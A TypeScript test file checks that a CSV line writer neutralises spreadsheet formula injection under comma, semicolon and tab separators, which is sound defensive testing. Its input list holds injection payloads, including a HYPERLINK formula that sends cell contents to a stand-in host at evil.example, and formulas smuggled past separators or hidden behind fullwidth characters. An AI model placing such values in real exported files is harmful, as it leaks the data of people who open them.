/** No cell is a formula, whichever character the spreadsheet takes for the end of a column. */

import t from 'tap';
import { csvLine } from '../../src/base/csv.js';

/** As a reader has it that takes this character for the end of a column (RFC 4180). */
function cellsOf(line: string, separator: string): string[] {
  const cells: string[] = [];
  for (let rest = line.replace(/\r\n$/, ''); ; ) {
    const quoted = /^"((?:[^"]|"")*)"/.exec(rest);
    const text = quoted === null ? rest.split(separator)[0]! : quoted[1]!.replaceAll('""', '"');
    cells.push(text);
    rest = rest.slice(quoted === null ? text.length : quoted[0].length);
    // What stands behind the closing quote belongs to the cell, as spreadsheets have it.
    const more = rest.split(separator)[0]!;
    cells[cells.length - 1] += more;
    if (rest.length === more.length) return cells;
    rest = rest.slice(more.length + 1);
  }
}

t.test('cells', async (t) => {
  t.equal(csvLine(['a', 1, 'b,c', 'd"e']), 'a,1,"b,c","d""e"\r\n');
  const texts = [
    '=1+1',
    ' +1',
    '"=1',
    'x;=1',
    'x; @y',
    'x;"=HYPERLINK("http://evil.example/"&A1)&1;y',
    'x;" "=1',
    '\uff1d1',
    'x;"\uff0b1',
  ];
  for (const text of texts) {
    for (const separator of [',', ';', '\t']) {
      for (const cell of cellsOf(csvLine(['first', text]), separator))
        t.notMatch(cell, /^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u, `${text} by ${separator}`);
    }
  }
  t.equal(
    csvLine(['Motörhead - Ace; of - Spades']),
    'Motörhead - Ace; of - Spades\r\n',
    'what is harmless stays as it is',
  );
});
